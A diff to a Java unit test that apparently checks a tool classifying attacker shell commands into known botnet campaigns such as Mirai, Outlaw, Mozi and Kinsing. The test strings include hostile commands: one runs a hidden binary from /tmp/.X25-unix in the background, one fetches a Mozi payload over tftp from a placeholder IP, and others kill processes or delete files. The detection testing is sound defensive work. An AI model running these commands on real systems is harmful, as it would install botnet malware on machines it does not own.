@@ -47,6 +47,8 @@ class CampaignsTest {
                 "/bin/busybox FGZNH                      ! mirai",
                 "cd /tmp; /bin/busybox mirai             ! mirai",
                 "/bin/busybox corona                     ! mirai",
+                "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
+                "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
             })
     void namesKnownCampaigns(String command, String campaign) {
         Playbook playbook = of(command);
@@ -88,6 +90,7 @@ class CampaignsTest {
                 "pkill -9 kdevtmpfsi; killall kinsing",
                 "rm -rf /tmp/kinsing* /tmp/.X25-unix",
                 "echo kinsing",
+                "vi /etc/cron.hourly/gcc.sh",
                 "which redtail; ls /tmp/.X25-unix",
                 "/bin/busybox TOUCH",
                 "busybox wget",
